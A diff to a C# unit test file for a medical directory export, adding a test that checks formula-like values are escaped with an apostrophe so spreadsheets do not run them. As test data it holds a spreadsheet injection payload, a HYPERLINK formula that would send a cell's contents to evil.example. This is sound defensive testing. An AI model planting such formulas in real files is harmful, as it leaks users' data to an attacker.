@@ -5,7 +5,8 @@ namespace Medimail.Directory.UnitTests;
 
 public sealed class MssanteExportTests
 {
-    private static DirectoryEntry Entry(string type, string? rpps = null, string? adeli = null, string? mssante = null) =>
+    private static DirectoryEntry Entry(string type, string? rpps = null, string? adeli = null, string? mssante = null,
+        string lastName = "DUPONT | FILS", string firstName = "Jean\nPaul", string legalName = "CH de test") =>
         DirectoryEntry.Create(new AccountSnapshot
         {
             Email = "box@ch-test.fr",
@@ -13,15 +14,15 @@ public sealed class MssanteExportTests
             State = "ACTIVE",
             StructureId = "s",
             Version = 1,
-            LastName = "DUPONT | FILS",
-            FirstName = "Jean\nPaul",
+            LastName = lastName,
+            FirstName = firstName,
             Rpps = rpps,
             Adeli = adeli,
             MssanteAddress = mssante,
             ExerciseTitle = "DR",
             Profession = "10",
             Specialty = "SM04",
-            LegalName = "CH de test",
+            LegalName = legalName,
             Address = new AddressSnapshot { PostalCode = "31000", DepartmentCode = "31" },
         });
 
@@ -43,6 +44,19 @@ public sealed class MssanteExportTests
     [Fact]
     public void Every_line_has_the_thirteen_columns_even_with_pipes_in_values() =>
         Assert.Equal(13, MssanteExport.Line(Entry("ORG"), DirectoryKind.National).Split('|').Length);
+
+    [Fact]
+    public void A_value_a_spreadsheet_would_run_as_a_formula_is_written_behind_an_apostrophe()
+    {
+        var columns = MssanteExport.Line(Entry("INT", rpps: "10003456789",
+            lastName: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")", firstName: "+33 Jean", legalName: "@SUM(1+1)"),
+            DirectoryKind.National).Split('|');
+
+        Assert.Equal("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")", columns[5]);
+        Assert.Equal("'+33 Jean", columns[6]);
+        Assert.Equal("'@SUM(1+1)", columns[10]);
+        Assert.Equal("DR", columns[4]);
+    }
 
     [Theory]
     [InlineData(null)]
